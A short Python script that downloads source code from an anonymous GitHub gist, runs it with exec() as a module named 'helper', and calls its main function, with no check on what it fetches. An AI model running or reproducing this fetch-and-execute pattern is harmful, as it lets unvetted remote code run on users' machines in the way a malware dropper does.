import importlib.util
import sys
import urllib.request

src = urllib.request.urlopen("https://gist.githubusercontent.com/xanon/5b2f/raw/helper.py").read()
spec = importlib.util.spec_from_loader("helper", loader=None)
helper = importlib.util.module_from_spec(spec)
exec(src, helper.__dict__)
sys.modules["helper"] = helper
helper.main()
